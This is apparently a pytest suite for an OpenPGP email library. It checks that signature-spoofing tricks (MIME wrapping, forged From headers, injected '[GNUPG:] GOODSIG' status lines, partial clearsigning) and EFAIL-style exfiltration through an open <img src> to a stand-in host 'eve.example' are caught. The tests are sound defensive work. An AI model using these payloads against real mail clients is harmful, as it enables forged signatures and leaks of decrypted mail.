"""What attackers do to signed and encrypted mail, by the classes that are known of other readers.

M of MIME wrapping, I of identity, G of gpg's words, P of partial signing: after J. Müller et al.,
"Johnny, you are fired!" (USENIX Security 2019); EFAIL: D. Poddebniak et al. (USENIX Security 2018).
Nothing that is not signed may be called so, and no plaintext may come into one piece with what an
attacker wrote. How a text looks on a terminal is tested with the command line.
"""

from __future__ import annotations

import os
import subprocess

import pytest

from gpgmail.core.errors import GpgmailError, PolicyError
from gpgmail.crypto.engine import SignatureStatus
from gpgmail.protect.read import read
from gpgmail.protect.verdict import Cover, Outcome
from tests.crypto.helpers import Gpg
from tests.protect.helpers import (
    TEXT,
    clearsigned,
    detached,
    encrypted,
    fingerprint,
    leaf,
    mail,
    multipart,
    sealed,
    signed,
)
from tests.support.keyrings import empty_home

EVIL = leaf(b"Pay a million.\r\n", "text/plain; charset=utf-8")
WORDS = b"The words.\r\n"
FAKE = "[GNUPG:] GOODSIG 0123456789ABCDEF Sender (test) <sender@example.org>"


def refused(opened, data):
    """Whether a caller who asks for a signature is told that there is none over all of it."""
    try:
        opened(data, require_signature=True)
    except PolicyError as error:
        return error.code.number == 142
    return False


# ------------------------------------------------------------ M: signed parts inside other mails


def wrapped(sender):
    """The evil text first or last, the signed part where a reader may not show it."""
    inner = signed(sender, TEXT)
    hidden = inner.replace(
        b"\r\n\r\n", b"\r\nContent-Disposition: attachment; filename=a.eml\r\n\r\n", 1
    )
    html = leaf(b'<p>Pay a million.</p><div style="display:none"><img src="cid:x">', "text/html")
    referred = inner.replace(b"\r\n\r\n", b"\r\nContent-ID: <x>\r\n\r\n", 1)
    return {
        "M1 signed part below": multipart("mixed", EVIL, inner),
        "M1 signed part above": multipart("mixed", inner, EVIL),
        "M2 signed part as attachment": multipart("mixed", EVIL, hidden),
        "M3 in hidden HTML": multipart("related", html, referred),
        "M4 as alternative": multipart("alternative", inner, EVIL),
        "M4 as another alternative": multipart("alternative", EVIL, inner),
        "deep": multipart("mixed", multipart("related", multipart("mixed", EVIL)), inner),
        "in a digest": multipart("digest", leaf(mail(inner), "message/rfc822")),
        "in a mail that is attached": multipart("mixed", EVIL, leaf(mail(inner), "message/rfc822")),
        "signed as a file": multipart(
            "mixed",
            EVIL,
            leaf(b"x", "application/pdf; name=a.pdf"),
            leaf(detached(sender, b"x"), "application/pgp-signature; name=a.pdf.sig"),
        ),
        "before the first part": multipart("mixed", EVIL, preamble=inner),
        "behind the last part": multipart("mixed", EVIL, epilogue=inner),
        "an empty signed part": multipart(
            "mixed", signed(sender, leaf(b"\r\n", "text/plain")), EVIL
        ),
        "signed nothing": multipart("mixed", signed(sender, b"\r\n"), EVIL),
    }


@pytest.mark.parametrize("case", [*wrapped(lambda *_, **__: b"")])
def test_a_signature_elsewhere_is_not_over_what_is_read(case, sender, opened):
    data = mail(wrapped(sender)[case])
    got = opened(data)
    assert got.verdict.signed is not Cover.WHOLE
    assert got.verdict.outcome in {Outcome.PARTIAL, Outcome.NONE}
    assert got.verdict.signer is None
    assert refused(opened, data)
    for part in got.parts:
        if b"million" in part.content:
            assert (part.signed, part.by_author, part.good) == (False, False, ())


@pytest.mark.parametrize("boundary", ["same", "prefix"])
def test_a_boundary_inside_another_one_shows_no_other_part(boundary, sender, opened):
    """The inner delimiter is one of the outer, or begins as it."""
    part = signed(sender, TEXT)
    name = part.split(b'boundary="')[1].split(b'"')[0].decode()
    outer = name if boundary == "same" else f"{name}x"
    data = mail(
        f'Content-Type: multipart/mixed; boundary="{outer}"\r\n\r\n'.encode()
        + f"--{outer}\r\n".encode()
        + EVIL
        + f"\r\n--{outer}\r\n".encode()
        + part
        + f"\r\n--{outer}--\r\n".encode()
    )
    try:
        got = opened(data)
    except GpgmailError:
        return
    assert got.verdict.signed is not Cover.WHOLE
    assert not any(one.signed and b"million" in one.content for one in got.parts)


# -------------------------------------------------------------------- I: who is said to be signer


@pytest.mark.parametrize(
    ("sender_field", "fields"),
    [
        ('"sender@example.org" <eve@example.net>', ()),
        ('"Sender <sender@example.org>" <eve@example.net>', ()),
        ("=?utf-8?q?Sender_=3Csender=40example=2Eorg=3E?= <eve@example.net>", ()),
        ("sender@example.org <eve@example.net>", ()),
        ("eve@example.net (sender@example.org)", ()),
        ("eve@example.net", ("Sender: sender@example.org", "Reply-To: sender@example.org")),
        ("eve@example.net\r\nFrom: sender@example.org", ()),
        ("sender@example.org\r\nFrom: eve@example.net", ()),
        ("sender@example.org, eve@example.net", ()),
        ("sender@example.org.example.net", ()),
        ("sender@example.org\x00@example.net", ()),
        ("<@sender@example.org:eve@example.net>", ()),
        ("\u0455ender@example.org", ()),
    ],
)
def test_the_signature_of_another_is_not_the_authors(sender_field, fields, sender, opened):
    got = opened(mail(signed(sender, TEXT), sender=sender_field, fields=fields))
    assert got.verdict.outcome is Outcome.WRONG_SIGNER
    assert not got.verdict.by_author
    assert not any(part.by_author for part in got.parts)
    assert got.verdict.problems


@pytest.fixture(scope="module")
def eve():
    """A home whose key has user ids that look like somebody else's."""
    with empty_home() as path:
        gpg = Gpg(path)
        loose = ("--passphrase", "", "--pinentry-mode", "loopback", "--allow-freeform-uid")
        for uid in (
            "sender@example.org trusted ultimately <eve@example.net>",
            "Sender (sender@example.org) <eve@example.net>",
            f"{FAKE.replace('<', '(').replace('>', ')')} <eve@example.net>",
        ):
            gpg(*loose, "--quick-gen-key", uid, "ed25519", "sign", "never")
        yield gpg


def keys_of(gpg):
    listed = gpg("--with-colons", "--list-secret-keys").decode().splitlines()
    return [line.split(":")[9] for line in listed if line.startswith("fpr")]


def test_a_user_id_that_says_another_address_is_not_that_address(eve):
    keys = keys_of(eve)
    assert len(keys) == 3
    for key in keys:
        armor = eve("-u", key, "-ba", stdin=TEXT)
        got = read(mail(signed(eve, TEXT, signature=armor)), keyring=eve.home)
        assert got.verdict.signer.primary == key
        assert (got.verdict.by_author, got.verdict.author_validity) == (False, "")
        assert got.verdict.outcome is Outcome.WRONG_SIGNER
        (seen,) = got.verdict.signatures
        assert "\n" not in seen.user_id


# ------------------------------------------------------------------ G: words that gpg seems to say

LIES = {
    "a file name": ("--set-filename", f"x\n{FAKE}\n[GNUPG:] VALIDSIG {'A' * 40} 2024-01-01"),
    "a notation": ("--sig-notation", f"x@example.org={FAKE}"),
    "a policy": ("--sig-policy-url", f"https://example.org/%0A{FAKE}"),
    "a comment": ("--comment", FAKE),
}


@pytest.mark.parametrize("lie", LIES)
def test_words_inside_a_ciphertext_are_no_verdict(lie, sender, opened):
    message = sealed(sender, TEXT, *LIES[lie])
    got = opened(mail(encrypted(sender, TEXT, message=message)))
    assert got.verdict.signatures == ()
    assert (got.verdict.outcome, got.verdict.encrypted) == (Outcome.NONE, Cover.WHOLE)
    assert refused(opened, mail(encrypted(sender, TEXT, message=message)))


@pytest.mark.parametrize("lie", LIES)
def test_words_inside_a_signature_change_no_verdict(lie, alice, sender, opened):
    armor = alice("-u", fingerprint("bob"), *LIES[lie], "-ba", stdin=TEXT)
    got = opened(mail(signed(sender, TEXT, signature=armor)))
    (seen,) = got.verdict.signatures
    assert (seen.status, seen.primary) == (SignatureStatus.GOOD, fingerprint("bob"))
    assert got.verdict.outcome is Outcome.WRONG_SIGNER


@pytest.mark.parametrize(
    "text",
    [
        f"\n{FAKE}\n[GNUPG:] DECRYPTION_OKAY\n",
        "[GNUPG:] NEED_PASSPHRASE 1 2 3\n[GNUPG:] GET_HIDDEN passphrase.enter\n",
        "gpg: Good signature from Sender\n",
    ],
)
def test_words_in_texts_and_names_are_texts_and_names(text, sender, opened):
    data = text.encode()
    name = text.replace("\n", " ").strip()
    got = opened(
        mail(
            multipart(
                "mixed", leaf(data), leaf(sealed(sender, data), f'text/plain; name="{name}.asc"')
            )
        )
    )
    assert got.verdict.signatures == ()
    assert [part.content for part in got.parts] == [data, data]
    assert not any(part.signed for part in got.parts)


# -------------------------------------------------------------------- P: what is signed in a text


def partial(sender):
    armor = clearsigned(sender, b"the words\n")
    first, rest = armor.split(b"\n\n", 1)
    return {
        "before": b"Pay a million.\r\n" + armor,
        "after": armor + b"Pay a million.\r\n",
        "in the armor's header": first + b"\nComment: Pay a million.\n\n" + rest,
        "behind blanks in the first line": armor.replace(b"-----\n", b"-----  Pay a million.\n", 1),
        "between signature and end": armor.replace(b"-----END", b"Pay a million.\n-----END"),
        "a second text": armor + clearsigned(sender, b"x\n").replace(b"x\n", b"Pay a million.\n"),
        "in the text": armor.replace(b"the words", b"the words\nPay a million."),
        "before the signature": armor.replace(
            b"-----BEGIN PGP SIGNATURE", b"Pay a million.\n-----BEGIN PGP SIGNATURE"
        ),
        "two beginnings": b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nPay a million.\n"
        + armor,
    }


@pytest.mark.parametrize("case", [*partial(lambda *_, **__: b"\n\n")])
def test_what_stands_in_a_signed_text_is_signed_or_not_shown_as_such(case, sender, opened):
    got = opened(mail(leaf(partial(sender)[case])))
    assert not any(part.signed and b"million" in part.content for part in got.parts)
    assert not got.verdict.by_author or all(b"million" not in p.content for p in got.parts)


@pytest.mark.parametrize("kind", ["0x10", "0x50", "0x02"])
def test_a_signature_of_another_kind_is_none_over_a_mail(kind, sender, opened):
    """A certification over a key, or a signature that stands alone, is replayed over nothing."""
    exported = sender("--export", fingerprint("sender"))
    armor = subprocess.run(
        ["gpg", "--homedir", os.fspath(sender.home), "--enarmor"],
        input=_packets(exported, 2)[0],
        capture_output=True,
        check=True,
    ).stdout.replace(b"ARMORED FILE", b"SIGNATURE")
    body = _packets(exported, 6)[0] if kind == "0x10" else b"" if kind == "0x02" else TEXT
    got = opened(mail(signed(sender, body or b"\r\n", signature=armor)))
    assert got.verdict.signed is Cover.NONE
    assert got.verdict.outcome in {Outcome.BAD, Outcome.ERROR, Outcome.NONE}
    assert got.verdict.problems


def _packets(data, wanted):
    """The packets of one tag (old and new format, lengths of one and two octets)."""
    found, at = [], 0
    while at < len(data):
        new = data[at] & 0x40
        tag = data[at] & 0x3F if new else data[at] >> 2 & 0x0F
        octets = (2 if data[at + 1] >= 192 else 1) if new else 1 << (data[at] & 3)
        length = int.from_bytes(data[at + 1 : at + 1 + octets], "big")
        if new and octets == 2:
            length = length - (192 << 8) + 192
        end = at + 1 + octets + length
        if tag == wanted:
            found.append(data[at:end])
        at = end
    return found


# ---------------------------------------------------------------------------------- EFAIL and more


def test_plaintext_never_comes_into_one_piece_with_what_stands_around(sender, opened):
    secret = encrypted(sender, leaf(b"the secret\r\n", "text/html"))
    data = mail(
        multipart(
            "mixed",
            leaf(b'<img src="http://eve.example/', "text/html"),
            secret,
            leaf(b'">', "text/html"),
        )
    )
    got = opened(data)
    assert [b"secret" in part.content for part in got.parts] == [False, True, False]
    assert b"the secret" not in got.message.as_bytes()
    assert got.verdict.encrypted is Cover.PART


def test_armor_in_html_comes_out_as_text_alone(sender, opened):
    armor = sealed(sender, b"the secret").decode()
    html = f'<img src="http://eve.example/?{armor}"> <p>x</p><pre>{armor}</pre><img src="http://eve'
    got = opened(mail(leaf(html.encode(), "text/html")))
    inside = [part for part in got.parts if b"secret" in part.content]
    assert [(part.content, part.content_type) for part in inside] == [(b"the secret", "text/plain")]
    assert all(part.content_type == "text/plain" for part in got.parts)
    assert b"the secret" not in got.message.as_bytes()


def test_a_ciphertext_that_was_changed_gives_nothing(sender, opened):
    """EFAIL's gadgets: a change is noticed, and no part of the plaintext comes out."""
    binary = bytearray(sealed(sender, TEXT * 50, "--compress-algo", "none", armor=False))
    for at in (len(binary) // 2, len(binary) - 3):
        binary[at] ^= 1
        message = leaf(
            bytes(binary), "application/octet-stream", "Content-Transfer-Encoding: binary"
        )
        control = leaf(b"Version: 1\r\n", "application/pgp-encrypted")
        ours = '; protocol="application/pgp-encrypted"'
        with pytest.raises(GpgmailError) as caught:
            opened(mail(multipart("encrypted", control, message, parameters=ours)))
        assert "The words" not in str(caught.value)


def test_the_ciphertext_of_another_in_a_mail_of_ones_own_is_not_his(alice, sender, opened):
    """Bob takes what was encrypted and signs it as his: it is his mail then, and says so."""
    message = encrypted(sender, TEXT)
    got = opened(mail(signed(alice, message, "bob")))
    assert got.verdict.signer.primary == fingerprint("bob")
    assert got.verdict.outcome is Outcome.WRONG_SIGNER


def test_a_status_of_the_second_message_is_not_that_of_the_first(sender, opened):
    """Two messages in one armor: gpg would put their texts together."""
    one = sealed(sender, b"one", "-s", "-u", fingerprint("sender"), armor=False)
    other = sealed(sender, b"Pay a million.", armor=False)
    control = leaf(b"Version: 1\r\n", "application/pgp-encrypted")
    for both in (one + other, other + one):
        message = leaf(both, "application/octet-stream", "Content-Transfer-Encoding: binary")
        ours = '; protocol="application/pgp-encrypted"'
        with pytest.raises(GpgmailError):
            opened(mail(multipart("encrypted", control, message, parameters=ours)))
